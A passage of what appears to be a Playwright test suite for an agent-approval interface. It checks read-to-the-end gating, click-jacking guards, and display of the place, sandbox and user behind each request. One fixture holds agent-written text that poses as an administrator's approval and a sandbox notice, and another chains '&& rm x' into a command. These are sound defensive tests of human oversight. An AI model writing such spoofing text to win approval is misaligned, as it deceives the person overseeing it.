"""What a person sees before a decision: all of it, what will happen first, where, and which harm it does."""

import json
import time
from typing import Any

import pytest
from daemons import Daemon
from playwright.sync_api import Locator, Page, Route, expect
from scenes import command
from visits import PATIENCE_S, Phone, Visit, first_held, settled, until

LONG = 300


def ask(daemon: Daemon, request: dict[str, Any], **more: Any) -> str:
    """Begin a session that asks; return the id of the request."""
    more.setdefault("cwd", str(daemon.directory))
    session = daemon.begin_long([["ask", request], ["end", "Done."]], **more)
    return str(daemon.question(session)["id"])


def change(daemon: Daemon, *sizes: int, **more: Any) -> dict[str, Any]:
    """Return a request to change files, each with a diff of some lines."""
    changes = [
        {
            "path": f"{daemon.directory}/file{index}.py",
            "kind": "update",
            "diff": "@@ -1 +1 @@\n" + "".join(f"+line {number}\n" for number in range(size)),
        }
        for index, size in enumerate(sizes)
    ]
    detail = {"type": "file_change", "changes": changes, "reason": None}
    return {"text": "Some files", "kind": "approval_request", "detail": detail, **more}


def card(page: Page, request: str) -> Locator:
    return page.locator(f".card[data-request={request}]")


def button(asked: Locator, name: str) -> Locator:
    return asked.get_by_role("button", name=name, exact=True)


def is_open(daemon: Daemon, request: str) -> bool:
    return bool(daemon.get(f"/requests/{request}")["request"]["status"] == "pending")


def read_on(asked: Locator) -> int:
    """Press the button until it approves; return how often that was."""
    presses = 0
    deadline = time.monotonic() + PATIENCE_S
    # At once, because it becomes another button while a press is prepared.
    while asked.evaluate("(card) => { const one = card.querySelector('.read-on'); one?.click(); return one !== null; }"):  # fmt: skip
        assert time.monotonic() < deadline, "the end is never seen"
        presses += 1
        asked.page.wait_for_timeout(250)
    return presses


def press(asked: Locator, name: str) -> None:
    """Press a button that approves. It takes no press for a moment after it became another button, or moved."""
    expect(button(asked, name)).not_to_have_attribute("aria-disabled", "true")
    button(asked, name).click()


def scroll_to_end(page: Page) -> None:
    page.evaluate(
        "() => { const box = document.querySelector('.main-pane .scroll'); box.scrollTop = box.scrollHeight; }"
    )


# --- read to the end


@pytest.mark.parametrize(
    "kind", ["command", "line", "text", "plan", "permission", "reason", "batch"]
)
def test_nothing_is_approved_before_its_end_was_seen(
    shared: Daemon, phone: Phone, kind: str
) -> None:
    here = str(shared.directory)
    lines = "\n".join(f"echo {kind} {number}" for number in range(50))
    text = "\n\n".join(f"{kind}, paragraph {number}" for number in range(60))
    requests: dict[str, dict[str, Any]] = {
        "command": command("Run", lines, here),
        "line": command("Run", f"echo {'word ' * 1000}", here),
        "text": {"text": text, "kind": "approval_request"},
        "plan": {"text": "Plan", "kind": "approval_request", "detail": {"type": "plan", "text": text}},
        "permission": {"text": "Access", "kind": "permission_request", "detail": {"type": "permission", "permissions": {"paths": [f"/srv/{n}" for n in range(35)]}, "reason": None}},
        "reason": command("Run", "make it", here, text),
        "batch": command("Run", lines, here),
    }  # fmt: skip
    request = ask(shared, requests[kind])
    others = [ask(shared, requests[kind])] if kind == "batch" else []
    page = phone.at("/inbox" if kind == "batch" else f"/r/{request}")
    asked = card(page, request)
    asked.locator(".card-head").scroll_into_view_if_needed()
    label = {"plan": "Approve", "batch": "Approve all 2 once"}.get(kind, "Approve once")
    expect(button(asked, "Read on ↓")).to_be_in_viewport()
    expect(button(asked, label)).to_have_count(0)
    expect(asked.get_by_text("You have not seen all of it yet.")).to_be_visible()
    assert read_on(asked) > 0
    expect(asked.get_by_text("You have not seen all of it yet.")).to_have_count(0)
    assert is_open(shared, request)
    press(asked, label)
    expect(asked).to_have_count(0)
    shared.until(lambda: not any(is_open(shared, one) for one in (request, *others)))


def test_press_of_read_on_that_comes_late_approves_nothing(shared: Daemon, phone: Phone) -> None:
    lines = "\n".join(f"echo late {number}" for number in range(45))
    request = ask(shared, command("Run", lines, str(shared.directory)))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_visible()
    # All presses come where the button was, quickly one after another: within the time that protects from them.
    box = button(asked, "Read on ↓").bounding_box()
    assert box
    page.evaluate(
        """async ([x, y]) => {
          const began = performance.now();
          for (let press = 0; press < 6 && performance.now() - began < 600; press++) {
            document.elementFromPoint(x, y).click();
            await new Promise(requestAnimationFrame);
          }
        }""",
        [box["x"] + box["width"] - 20, box["y"] + box["height"] / 2],
    )
    read_on(asked)
    expect(button(asked, "Approve once")).to_be_visible()
    assert is_open(shared, request)
    press(asked, "Approve once")
    expect(asked).to_have_count(0)


def test_key_that_is_held_down_approves_nothing(shared: Daemon, phone: Phone) -> None:
    lines = "\n".join(f"echo held {number}" for number in range(45))
    request = ask(shared, command("Run", lines, str(shared.directory)))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    button(asked, "Read on ↓").focus()
    for _ in range(3):  # the first is a press, the others repeat it
        page.keyboard.down("Enter")
    page.keyboard.up("Enter")
    expect(button(asked, "Read on ↓")).to_be_focused()
    read_on(asked)
    # The focus stays on the button while its meaning changes, and a screen reader hears of it.
    expect(button(asked, "Approve once")).to_be_focused()
    expect(asked.get_by_role("status")).to_have_text("You have seen all of it.")
    expect(button(asked, "Approve once")).not_to_have_attribute("aria-disabled", "true")
    page.evaluate(
        """() => document.activeElement.dispatchEvent(
          new KeyboardEvent("keydown", { key: "Enter", repeat: true, bubbles: true, cancelable: true }))"""
    )
    assert is_open(shared, request)
    page.keyboard.press("Enter")
    expect(asked).to_have_count(0)


def test_end_of_what_is_folded_was_not_seen(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, change(shared, LONG, 38))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_visible()
    scroll_to_end(page)
    # The end of the card is in view, and 260 lines are not.
    expect(asked.get_by_text("+line 37", exact=True).last).to_be_in_viewport()
    expect(button(asked, "Approve once")).to_have_count(0)
    button(asked, f"Show all {LONG + 1} lines").click()
    scroll_to_end(page)
    # What was unfolded was passed over.
    expect(button(asked, "Read on ↑")).to_be_visible()
    button(asked, "Read on ↑").click()
    read_on(asked)
    expect(button(asked, "Approve once")).to_be_visible()


@pytest.mark.parametrize("how", ["script", "end", "bar", "find"])
@pytest.mark.parametrize("kind", ["command", "text"])
def test_middle_that_was_jumped_over_was_not_seen(
    shared: Daemon, phone: Phone, how: str, kind: str
) -> None:
    """Of a long part that is not folded, its beginning and its end were in view."""
    lines = "\n".join(f"echo jump {number}." for number in range(58))
    text = "\n\n".join(f"jump {number}." for number in range(60))
    request = ask(
        shared,
        command("Run", lines, str(shared.directory))
        if kind == "command"
        else {"text": text, "kind": "approval_request"},
    )
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_visible()
    if how == "script":
        scroll_to_end(page)
    elif how == "end":
        page.locator(".main-pane .scroll").evaluate("(box) => { box.tabIndex = 0; box.focus(); }")
        page.keyboard.press("End")
    elif how == "bar":  # as a bar that is dragged: some places on the way, each for a moment
        page.evaluate(
            """async () => {
              const box = document.querySelector(".main-pane .scroll");
              for (let part = 1; part <= 8; part++) {
                box.scrollTop = (box.scrollHeight * part) / 8;
                await new Promise(requestAnimationFrame);
              }
            }"""
        )
    else:  # as the browser's find bar, which puts what it found in the middle
        assert page.evaluate(
            """() => {
              getSelection().removeAllRanges(); // the search begins at what is selected
              const isFound = window.find("57.");
              const box = document.querySelector(".main-pane .scroll");
              box.scrollTop += getSelection().getRangeAt(0).getBoundingClientRect().top - innerHeight / 2;
              return isFound;
            }"""
        )
    last = "57." if kind == "command" else "jump 57."
    expect(asked.get_by_text(last).first).to_be_in_viewport()
    # The end is in view, also for as long as is needed to be seen, and the middle was not.
    expect(button(asked, "Read on ↑")).to_be_visible()
    page.wait_for_timeout(400)
    expect(button(asked, "Approve once")).to_have_count(0)
    page.evaluate(RECORD_LINES)
    assert read_on(asked) > 0
    expect(button(asked, "Approve once")).to_be_visible()
    assert page.evaluate("window.most <= 0"), "reading on passes over nothing"
    assert is_open(shared, request)


RECORD_LINES = """() => {
  const box = document.querySelector(".main-pane .scroll");
  window.most = 0;
  let last = box.scrollTop;
  box.addEventListener("scroll", () => {
    if (box.scrollTop > last) window.most = Math.max(window.most, box.scrollTop - last - box.clientHeight);
    last = box.scrollTop;
  });
}"""
"""Record the greatest jump down that passed over something, in pixels."""


def test_read_on_unfolds_and_passes_over_nothing(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, change(shared, 70, 3, 60))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_visible()
    page.evaluate(
        """() => {
          window.shown = new Set();
          const look = () => {
            const bar = document.querySelector(".actions")?.getBoundingClientRect().top;
            if (bar === undefined) return; // the next test has another screen
            for (const line of document.querySelectorAll(".diff pre span")) {
              const box = line.getBoundingClientRect();
              if (box.top >= 0 && box.bottom <= bar + 1) window.shown.add(line);
            }
            requestAnimationFrame(look);
          };
          look();
        }"""
    )
    read_on(asked)
    expect(button(asked, "Approve once")).to_be_visible()
    assert page.locator(".diff pre span").count() == 136
    until(page, "window.shown.size === 136")


def test_closed_diff_was_not_seen(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, change(shared, 39, 2))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_visible()
    asked.locator("summary").first.click()
    expect(asked.get_by_text("+line 38", exact=True)).not_to_be_visible()
    expect(asked.get_by_text("+line 1", exact=True).last).to_be_in_viewport()
    expect(button(asked, "Approve once")).to_have_count(0)
    read_on(asked)
    expect(asked.get_by_text("+line 38", exact=True)).to_be_visible()
    expect(button(asked, "Approve once")).to_be_visible()


def test_other_ways_to_approve_need_the_end_too(shared: Daemon, phone: Phone) -> None:
    lines = "\n".join(f"echo way {number}" for number in range(50))
    request = ask(shared, command("Run", lines, str(shared.directory)))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    asked.get_by_role("button", name="More options").click()
    expect(button(asked, "Approve for this session")).to_be_disabled()
    expect(asked.get_by_text("Read to the end first: then you can approve.")).to_be_visible()
    # What is opened is in view at once, and a refusal needs nothing.
    expect(button(asked, "Deny with words…")).to_be_in_viewport()
    expect(button(asked, "Deny and stop the agent")).to_be_enabled()
    asked.get_by_role("button", name="More options").click()
    read_on(asked)
    asked.get_by_role("button", name="More options").click()
    expect(button(asked, "Approve for this session")).to_be_enabled()
    page.wait_for_timeout(600)  # a double tap on the options chooses none
    button(asked, "Approve for this session").click()
    expect(asked).to_have_count(0)
    assert shared.get(f"/requests/{request}")["request"]["scope"] == "session"


@pytest.mark.parametrize(
    ("width", "height", "size"), [(390, 844, "200%"), (844, 390, "100%"), (844, 390, "200%")]
)
def test_end_can_be_seen_in_a_small_window(
    shared: Daemon, visit: Visit, width: int, height: int, size: str
) -> None:
    """Twice as large a text, and a phone that lies: the buttons leave room to read."""
    lines = "\n".join(f"echo small {number}" for number in range(30))
    request = ask(shared, command("Run", lines, str(shared.directory), "Because"))
    page = visit.open(f"{shared.url}/#/r/{request}")
    page.set_viewport_size({"width": width, "height": height})
    page.evaluate("size => (document.documentElement.style.fontSize = size)", size)
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_attached()
    read_on(asked)
    press(asked, "Approve once")
    expect(asked).to_have_count(0)


def test_window_that_is_zoomed_into_shows_only_a_part(shared: Daemon, visit: Visit) -> None:
    request = ask(shared, command("Run", "make zoomed", str(shared.directory), "word " * 60))
    page = visit.open("about:blank", has_touch=True, is_mobile=True)
    zoom = page.context.new_cdp_session(page)
    page.goto(f"{shared.url}/#/inbox")
    zoom.send("Emulation.setPageScaleFactor", {"pageScaleFactor": 3})
    until(page, "visualViewport.height < 300")
    page.evaluate("path => (location.hash = path)", f"/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Read on ↓")).to_be_attached()
    zoom.send("Emulation.setPageScaleFactor", {"pageScaleFactor": 1})
    expect(button(asked, "Approve once")).to_be_visible()


def test_long_request_in_a_session_is_read_from_its_beginning(shared: Daemon, phone: Phone) -> None:
    """The story shows its end: of a request that is longer than the window, that would be the end alone."""
    lines = "\n".join(f"echo story {number}" for number in range(50))
    script = [
        ["emit", "agent.message", {"text": "word " * 2000}],
        ["file", str(shared.directory / "ask-now")],
        ["ask", command("Run", lines, str(shared.directory))],
        ["end", "Done."],
    ]
    session = shared.begin_long(script, cwd=str(shared.directory))
    page = phone.at(f"/s/{session}")
    expect(page.locator(".story .entry").last).to_contain_text("word word")
    (shared.directory / "ask-now").touch()
    request = shared.question(session)["id"]
    for _ in range(2):  # it appears in the open story; later it is there when the story is opened
        asked = card(page, request)
        expect(asked.get_by_role("heading", name="Run a command")).to_be_in_viewport()
        expect(button(asked, "Read on ↓")).to_be_in_viewport()
        expect(button(asked, "Approve once")).to_have_count(0)
        page.reload()
    expect(asked).to_be_visible()
    assert read_on(asked) > 0
    expect(button(card(page, request), "Approve once")).to_be_visible()


def test_unfolding_in_a_story_does_not_jump_to_its_end(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, change(shared, 41))
    session = shared.get(f"/requests/{request}")["request"]["session_id"]
    page = phone.at(f"/s/{session}")
    page.set_viewport_size({"width": 1000, "height": 1400})
    asked = card(page, request)
    unfold = button(asked, "Show all 42 lines")
    expect(unfold).to_be_in_viewport()
    page.set_viewport_size({"width": 1000, "height": 700})
    page.get_by_role("button", name="Jump to the end").click()
    until(page, "(box => box.scrollHeight - box.scrollTop - box.clientHeight)(document.querySelector('.story')) < 4")  # fmt: skip
    expect(unfold).to_be_in_viewport()
    line = asked.get_by_text("+line 30", exact=True)
    before = line.bounding_box()
    unfold.click()
    expect(asked.get_by_text("+line 40", exact=True)).to_be_attached()
    page.wait_for_timeout(200)
    after = line.bounding_box()
    assert before
    assert after
    assert abs(after["y"] - before["y"]) < 100, "it is where it was, but for what a press scrolls"


@pytest.mark.parametrize("lines", [50, 1])
def test_new_request_moves_nothing_that_is_read(shared: Daemon, phone: Phone, lines: int) -> None:
    """In a story, a request that comes while another is in view is announced, and shown when the user wants."""
    here = str(shared.directory)
    long = "\n".join(f"echo read {number}" for number in range(lines))
    text = {"text": "word " * 2000}
    session = shared.begin_long(
        [["emit", "agent.message", text], ["ask", command("Run", long, here)], ["end", "Done."]]
    )
    first = shared.question(session)["id"]
    page = phone.at(f"/s/{session}")
    asked = card(page, first)
    expect(asked.get_by_role("heading", name="Run a command")).to_be_in_viewport()
    expect(button(asked, "Deny")).to_be_in_viewport()
    places = "(card) => [card, card.querySelector('.deny')].map((one) => Math.round(one.getBoundingClientRect().top))"
    before = asked.evaluate(places)
    script = [["ask", command("Run", "make second", here)], ["end", "Done."]]
    helper = shared.post(
        f"/sessions/{session}/spawn", task="Help", metadata={"script": script}, cwd=here
    )["session"]["id"]
    second = shared.question(helper)["id"]
    news = page.get_by_role("button", name="1 new request")
    expect(news).to_be_in_viewport()
    expect(card(page, second)).to_be_attached()
    assert asked.evaluate(places) == before
    news.click()
    expect(button(card(page, second), "Deny")).to_be_in_viewport()
    expect(news).to_have_count(0)
    # Whoever writes wants to see what they wrote.
    page.locator(".story").evaluate("(box) => (box.scrollTop = 0)")
    expect(button(card(page, second), "Deny")).not_to_be_in_viewport()
    page.get_by_placeholder("Message to").fill("A word from the user")
    page.get_by_placeholder("Message to").press("Control+Enter")
    expect(page.get_by_text("A word from the user").last).to_be_in_viewport()


BLOCKED = """() => {
  window.blocked = new Set();
  new MutationObserver(() => {
    for (const one of document.querySelectorAll(".card.request:has(.approve[aria-disabled=true])")) {
      window.blocked.add(one.dataset.request);
      for (const button of one.querySelectorAll(".approve, .deny")) button.click();
    }
  }).observe(document.body, { subtree: true, childList: true, attributes: true });
}"""
"""Note the cards that take no answer for a moment, and press their buttons meanwhile."""


def test_card_that_comes_under_the_finger_takes_no_answer(daemon: Daemon, visit: Visit) -> None:
    later = {**command("Run", "make later", str(daemon.directory)), "expires_in_s": 3600}
    second = ask(daemon, later)
    page = settled(visit.open(f"{daemon.url}/#/inbox"))
    expect(button(card(page, second), "Approve once")).to_be_enabled()
    page.evaluate(BLOCKED)
    sooner = {**command("Run", "make sooner", str(daemon.directory)), "expires_in_s": 600}
    first = ask(daemon, sooner)
    expect(page.locator(".card.request").first).to_have_attribute("data-request", first)
    # The one that came and the one that it moved take no press for a moment, and then they do.
    until(page, "window.blocked.size === 2")
    assert is_open(daemon, first)
    assert is_open(daemon, second)
    press(card(page, first), "Approve once")
    expect(card(page, first)).to_have_count(0)
    assert not is_open(daemon, first)


def test_first_card_takes_no_press_that_was_meant_for_what_was_there(
    daemon: Daemon, visit: Visit
) -> None:
    page = settled(visit.open(f"{daemon.url}/#/inbox"))
    expect(page.get_by_text("Nothing waits for you")).to_be_visible()
    page.evaluate(BLOCKED)
    same = command("Run", "make first", str(daemon.directory))
    request = ask(daemon, same)
    asked = card(page, request)
    expect(button(asked, "Approve once")).to_be_enabled()
    until(page, "window.blocked.size === 1")
    # Another that asks the same makes it mean more; a keyboard on the screen moves its buttons.
    page.evaluate("window.blocked.clear()")
    other = ask(daemon, same)
    expect(button(asked, "Approve all 2 once")).to_be_enabled()
    until(page, "window.blocked.size === 1")
    page.evaluate("window.blocked.clear()")
    page.set_viewport_size({"width": 390, "height": 600})
    until(page, "window.blocked.size === 1")
    expect(asked.locator(".deny")).to_be_enabled()
    assert is_open(daemon, request)
    assert is_open(daemon, other)


def test_card_that_another_one_moves_takes_no_answer(daemon: Daemon, visit: Visit) -> None:
    """Where a request takes effect is known late: each card grows, and moves those below it."""
    here = str(daemon.directory)
    requests = [ask(daemon, command("Run", f"make {n}", here)) for n in range(3)]
    page = visit.open("about:blank")
    page.set_viewport_size({"width": 390, "height": 2000})
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    page.route("**/daemon/status", hold)
    page.goto(f"{daemon.url}/#/inbox")
    for request in requests:
        expect(button(card(page, request), "Approve once")).to_be_enabled()
    page.evaluate(BLOCKED)
    answer = first_held(page, held).fetch()
    held[0].fulfill(response=answer, json={**answer.json(), "machine": "desk-" * 40})
    until(page, "(moved) => moved.every((one) => window.blocked.has(one))", requests[1:])
    for request in requests:
        expect(button(card(page, request), "Approve once")).to_be_enabled()
        assert is_open(daemon, request)


def test_card_that_a_shorter_list_moves_takes_no_answer(daemon: Daemon, visit: Visit) -> None:
    """At the end of the list, the browser scrolls by itself when a card below goes away."""
    asked = [
        ask(
            daemon,
            {**command("Run", f"make {name}", str(daemon.directory)), "expires_in_s": seconds},
        )
        for name, seconds in (("first", 600), ("second", 1200), ("third", 1800))
    ]
    page = settled(visit.open(f"{daemon.url}/#/inbox"))
    page.set_viewport_size({"width": 390, "height": 2000})  # all are read
    expect(page.get_by_role("button", name="Approve once", exact=True)).to_have_count(3)
    page.set_viewport_size({"width": 390, "height": 600})
    page.evaluate("document.querySelector('[data-screen=inbox]').scrollTop = 1e6")
    expect(page.locator(".card.request [aria-disabled=true]")).to_have_count(0)
    page.evaluate(BLOCKED)
    daemon.post(f"/requests/{asked[2]}/resolve", decision="deny")
    until(page, "(id) => window.blocked.has(id)", asked[1])
    assert is_open(daemon, asked[1])


def test_card_below_a_tool_that_ends_takes_no_answer(shared: Daemon, visit: Visit) -> None:
    """The output of a tool is folded when it ends: in a story, what is below moves up."""
    here, go = str(shared.directory), shared.directory / "tool-ends"
    started = {"tool_id": "t", "kind": "command", "name": "shell", "input": {"command": "make"}}
    output = "".join(f"line {number}\n" for number in range(30))
    session = shared.begin_long(
        [
            ["emit", "tool.started", started],
            ["emit", "tool.output", {"tool_id": "t", "text": output}],
            ["file", str(go)],
            ["emit", "tool.completed", {**started, "status": "completed", "output": output, "exit_code": 0}],
            ["file", str(shared.directory / "never")],
        ]
    )  # fmt: skip
    # The card comes below the tool.
    shared.until(lambda: any(one["event_type"] == "tool.output" for one in shared.events(session)))
    script = [["ask", command("Run", "make helper", here)], ["end", "Done."]]
    helper = shared.post(
        f"/sessions/{session}/spawn", task="Help", metadata={"script": script}, cwd=here
    )["session"]["id"]
    request = shared.question(helper)["id"]
    page = visit.open("about:blank")
    page.set_viewport_size({"width": 390, "height": 1100})
    page.goto(f"{shared.url}/#/s/{session}")
    settled(page)
    asked = card(page, request)
    expect(page.locator(".story")).to_contain_text("line 29")
    expect(button(asked, "Approve once")).to_be_enabled()
    expect(button(asked, "Deny")).to_be_in_viewport()
    page.evaluate(BLOCKED)
    go.touch()
    until(page, "(request) => window.blocked.has(request)", request)
    expect(button(asked, "Deny")).to_be_enabled()
    assert is_open(shared, request)
    shared.post(f"/sessions/{session}/close", cascade=True)


def test_each_request_is_shown_from_its_beginning(shared: Daemon, phone: Phone) -> None:
    """A notice leads from one request to another: that one is not shown where the first was scrolled to."""
    lines = "\n".join(f"echo next {number}" for number in range(50))
    first, second = (
        ask(shared, command("Run", f"{lines}\n{name}", str(shared.directory)))
        for name in ("one", "two")
    )
    page = phone.at(f"/r/{first}")
    read_on(card(page, first))
    expect(button(card(page, first), "Approve once")).to_be_visible()
    phone.at(f"/r/{second}")
    heading = card(page, second).get_by_role("heading", name="Run a command")
    expect(heading).to_be_in_viewport()
    expect(button(card(page, second), "Read on ↓")).to_be_visible()


# --- what, where, and by whom


def test_right_to_left_text_keeps_its_direction_and_a_command_its_order(
    shared: Daemon, phone: Phone
) -> None:
    hebrew, arabic = "למחוק את build/cache?", "ملف.txt"
    line = f"{arabic} שלום && rm x"
    question = {
        "text": hebrew,
        "kind": "input_request",
        "detail": {"type": "question", "questions": [{"id": "a", "text": hebrew, "choices": [{"label": "כן", "description": "מיד"}, {"label": "No"}], "multiple": False, "free_text": True}]},
    }  # fmt: skip
    request = ask(shared, command(hebrew, line, str(shared.directory)), title=f"{hebrew} v2")
    asking = ask(shared, question, title=arabic)
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    left = "(all) => all.map((one) => Math.round(one.getBoundingClientRect().left))"
    # The words of a command follow each other from left to right, in whatever script they are.
    words = asked.get_by_role("group", name="Command").locator(".word")
    expect(words).to_have_text(line.split(" "))
    assert words.evaluate_all(left) == sorted(words.evaluate_all(left))
    # Prose has its own direction: a question mark at the end is at the left of what is said.
    said = asked.get_by_role("blockquote").locator("p")
    ends = "(one) => { const range = document.createRange(); const text = one.firstChild; const at = (from) => { range.setStart(text, from); range.setEnd(text, from + 1); return range.getBoundingClientRect().left; }; return [at(0), at(text.length - 1)]; }"
    begin, end = said.first.evaluate(ends)
    assert end < begin
    page.evaluate("path => (location.hash = path)", f"/r/{asking}")
    choices = card(page, asking).locator(".choice-text > span:first-child")
    expect(choices).to_have_count(2)
    assert len(set(choices.evaluate_all(left))) == 1, "choices begin at the same place"
    session = shared.begin([["end", f"- {hebrew}\n- second\n\n> {hebrew}"]], text=hebrew)
    page.evaluate("path => (location.hash = path)", f"/s/{session}")
    marks = page.locator(".story .markdown ul")
    expect(marks).to_be_visible()
    assert marks.evaluate("(one) => getComputedStyle(one).direction") == "rtl"
    assert page.locator(".story .markdown blockquote").evaluate(
        "(one) => parseFloat(getComputedStyle(one).borderRightWidth) > 0"
    )


def test_many_options_are_told_apart_and_named_once(shared: Daemon, phone: Phone) -> None:
    kinds = ["allow_once", "allow_session", "deny"]
    options = [
        {
            "id": f"o{number}",
            "label": f"Region {number}" + " in the far north" * (number == 3),
            "kind": kinds[number // 20],
        }
        for number in range(60)
    ]
    request = ask(
        shared, {**command("Where?", "deploy", str(shared.directory)), "options": options}
    )
    page = phone.at(f"/r/{request}")
    page.set_viewport_size({"width": 320, "height": 640})
    asked = card(page, request)
    more = asked.get_by_role("button", name="More options")
    expect(more).to_have_text(
        "More options once, for this session, deny with words, deny, more time"
    )
    read_on(asked)
    expect(button(asked, "Approve once: Region 0")).to_be_in_viewport()
    expect(button(asked, "Deny: Region 40")).to_be_in_viewport()
    more.click()
    chosen = button(asked, "Approve once: Region 17")
    expect(chosen).to_be_attached()
    # A label that takes two lines makes its button higher.
    cut = "(all) => all.filter((one) => one.scrollHeight > one.clientHeight + 1).length"
    assert asked.locator(".more-answers button").evaluate_all(cut) == 0
    page.wait_for_timeout(600)  # a double tap on the options chooses none
    chosen.click()
    expect(asked).to_have_count(0)
    assert shared.get(f"/requests/{request}")["request"]["option"] == "o17"


def test_what_will_happen_comes_before_what_the_agent_says(shared: Daemon, phone: Phone) -> None:
    fake = "It is safe.\n\n\n\n\n\n# Sandbox: read-only\n**Approved** by your administrator <button>OK</button>"
    request = ask(shared, command(fake, "make it", str(shared.directory), "I must"))
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    words = asked.get_by_role("blockquote")
    block = asked.get_by_role("group", name="Command")
    expect(asked.get_by_role("heading", name="The agent says:")).to_be_visible()
    first, second = block.bounding_box(), words.bounding_box()
    assert first
    assert second
    assert first["y"] + first["height"] <= second["y"]
    # As it was said, without any form of the page's, and without a gap behind which it goes on.
    assert words.inner_text() == (
        "It is safe.\n\n# Sandbox: read-only\n**Approved** by your administrator <button>OK</button>\n\nI must"
    )
    assert words.locator("*:not(p)").count() == 0
    outside = asked.evaluate(
        "(card) => { const copy = card.cloneNode(true); copy.querySelectorAll('blockquote').forEach((one) => one.remove()); return copy.textContent; }"
    )
    assert "administrator" not in outside


@pytest.mark.parametrize(
    ("text", "detail"),
    [
        ("Run: make it", {"type": "command", "command": "make it"}),
        ("Run: make it\n\nReason: so", {"type": "command", "command": "make it", "reason": "so"}),
        ('Permissions: {"a": 1}', {"type": "permission", "permissions": {"a": 1}}),
        ('Use look: {"b": [1, 2]}', {"type": "tool", "name": "look", "input": {"b": [1, 2]}}),
        ("Change files: update a.py", {"type": "file_change", "changes": [{"path": "a.py", "kind": "update", "diff": "+x"}]}),
        ("Carry out this plan:\n\nFirst", {"type": "plan", "text": "First"}),
    ],
)  # fmt: skip
def test_text_that_only_repeats_is_not_shown_twice(
    shared: Daemon, phone: Phone, text: str, detail: dict[str, Any]
) -> None:
    request = ask(shared, {"text": text, "kind": "approval_request", "detail": detail})
    page = phone.at(f"/r/{request}")
    expect(card(page, request)).to_be_visible()
    said = card(page, request).get_by_role("blockquote")
    expected = {"command": detail.get("reason"), "plan": "First"}.get(detail["type"])
    assert said.all_inner_texts() == ([expected] if expected else [])


def test_what_an_agent_adds_beside_is_folded_and_need_not_be_read(
    shared: Daemon, visit: Visit
) -> None:
    beside = {"policy": ["make"] * 200, "</pre><b>": "<i>bold</i>"}
    detail = command("Run", "make beside", str(shared.directory))["detail"]
    request = ask(
        shared,
        {"text": "May I?", "kind": "approval_request", "detail": {**detail, "agent": beside}},
    )
    page = visit.open(f"{shared.url}/#/r/{request}")
    asked = card(page, request)
    expect(button(asked, "Approve once")).to_be_visible()
    expect(asked.get_by_text("policy")).to_be_hidden()
    asked.get_by_text("More from the agent").click()
    expect(asked.locator("details pre")).to_contain_text("<i>bold</i>")
    # What the page does not know must be read.
    unknown = {"type": "later", "agent": beside}
    request = ask(shared, {"text": "May I?", "kind": "approval_request", "detail": unknown})
    page.goto(f"{shared.url}/#/r/{request}")
    expect(button(card(page, request), "Read on ↓")).to_be_visible()


def test_text_that_adds_something_is_shown_whole(shared: Daemon, phone: Phone) -> None:
    text = "Change anything under /srv, also if approved only once; now change files: update a.py\nSecond line"
    detail = {"type": "file_change", "changes": [{"path": "a.py", "kind": "update", "diff": "+x"}]}
    options = [
        {"id": "y", "label": "Allow", "kind": "allow_once", "reaches": "anything under /srv"},
        {"id": "n", "label": "Deny", "kind": "deny"},
    ]
    request = ask(
        shared, {"text": text, "kind": "approval_request", "detail": detail, "options": options}
    )
    page = phone.at(f"/r/{request}")
    expect(card(page, request).get_by_role("blockquote")).to_have_text(text)
    expect(card(page, request)).to_contain_text("Approve once allows: anything under /srv")


def test_place_is_always_shown(shared: Daemon, phone: Phone) -> None:
    status = shared.get("/daemon/status")
    request = ask(shared, command("Run", "make where", f"{shared.directory}/below"))
    page = phone.at(f"/r/{request}")
    place = card(page, request).locator(".where")
    expect(place).to_have_text(
        f"in {shared.directory}/below · on {status['machine']} · no sandbox · as {status['user']}"
    )
    is_root = status["user"] == "root"
    assert ("as root" in place.locator(".risk").all_inner_texts()) == is_root
    # It is known also when the run began while the page was open.
    later = ask(shared, command("Run", "make later", str(shared.directory)))
    page.evaluate("path => (location.hash = path)", f"/r/{later}")
    expect(card(page, later).locator(".where")).to_contain_text("no sandbox · as")


@pytest.mark.parametrize(
    ("capabilities", "run", "said"),
    [
        ({"confine": True, "sandbox": None}, None, "sandbox not set"),
        ({"confine": True, "sandbox": "read-only"}, None, "sandbox read-only"),
        ({"confine": True, "sandbox": "read-only"}, "workspace-write", "sandbox workspace-write"),
        ({"confine": True, "sandbox": "read-only"}, "danger-full-access", "no sandbox"),
        ({"confine": False, "sandbox": "read-only"}, None, "no sandbox"),
    ],
)
def test_sandbox_is_the_runs_else_the_providers(
    shared: Daemon, visit: Visit, capabilities: dict[str, Any], run: str | None, said: str
) -> None:
    request = ask(shared, command("Run", "make box", str(shared.directory)))
    page = visit.device().new_page()
    visit.pages.append(page)

    def confined(route: Any) -> None:
        answer = route.fetch()
        body = answer.json()
        for provider in body.get("providers", ()):
            provider["capabilities"].update(capabilities)
        for activity in body.get("activity", ()):
            if activity["run"]:
                activity["run"]["sandbox"] = run
        route.fulfill(response=answer, json=body)

    page.route("**/daemon/status", confined)
    page.route("**/sessions?*", confined)
    page.goto(f"{shared.url}/#/r/{request}")
    expect(card(page, request).locator(".where")).to_contain_text(f"· {said} ·")


def test_batch_says_where_each_takes_effect(daemon: Daemon, visit: Visit) -> None:
    (daemon.directory / "other").mkdir()
    request = {**command("Run", "make same", ""), "detail": {"type": "command", "command": "make same", "cwd": None}}  # fmt: skip
    titles = [f"place {number}" for number in range(12)]
    asked_for: list[str] = []
    for number, title in enumerate(titles):
        cwd = daemon.directory / ("other" if number == 3 else "")
